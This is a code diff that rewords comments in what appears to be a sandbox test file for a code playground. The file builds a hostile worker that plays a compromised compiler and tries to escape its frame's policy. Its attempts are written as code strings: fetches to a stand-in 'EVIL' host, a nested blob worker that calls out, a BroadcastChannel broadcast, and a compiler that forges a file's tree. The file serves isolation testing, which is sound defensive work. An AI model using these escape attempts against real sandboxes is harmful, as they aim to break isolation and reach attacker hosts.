@@ -1,6 +1,6 @@
 /**
- * What a project tries that has taken the compiler over: each name with what would be an escape. It
- * runs in place of the compiler, so nothing but the frame's policy is in its way.
+ * What a project tries once it has taken over the compiler: each name with an expression that would
+ * be an escape. It runs in place of the compiler, so only the policy of the frame can stop it.
  */
 const attempts: Record<string, string> = {
   fetch: `(await fetch('EVIL/fetch', { mode: 'no-cors' })).type`,
@@ -43,7 +43,7 @@ const attempts: Record<string, string> = {
   'a shared worker': `new SharedWorker('SITE/assets/page.js')`,
   'a worker of the site': `await nest(() => 'SITE/assets/page.js')`,
   'a worker without a policy': `await nest(() => 'data:text/javascript,postMessage(1)')`,
-  // A worker of its own has the same policy.
+  // A nested worker has the same policy.
   'a worker of its own': `await nest(() => URL.createObjectURL(new Blob([
     "fetch('EVIL/nested', { mode: 'no-cors' }).then(() => postMessage('fetched'), () => close())",
   ])))`,
@@ -57,10 +57,10 @@ function opened(made: string): string {
   })`;
 }
 
-/** A channel reaches other contexts of the same origin, of which there are none. */
+/** A channel reaches other contexts of the same origin, and there should be none. */
 const greetings = `new BroadcastChannel('playground').postMessage('ESCAPED');`;
 
-/** A script that tells the page what it could do, by the port and by nothing else. */
+/** A script that reports to the page what it could do, only through the port. */
 export function writeHostileWorker(site: string, evil: string): string {
   const tries = Object.entries(attempts).map(
     ([name, code]) => `[${JSON.stringify(name)}, async () => ${code}]`,
@@ -90,8 +90,8 @@ addEventListener('message', async ({ ports: [port] }) => {
 }
 
 /**
- * A compiler that a project has taken over: it counts what it was asked for, and once it has compiled
- * anything, it gives another tree for a file.
+ * A compiler that a project has taken over: it counts the projects it has compiled, and after the
+ * first it forges the tree of a file.
  */
 export const takenOver = `
 let compiled = 0;
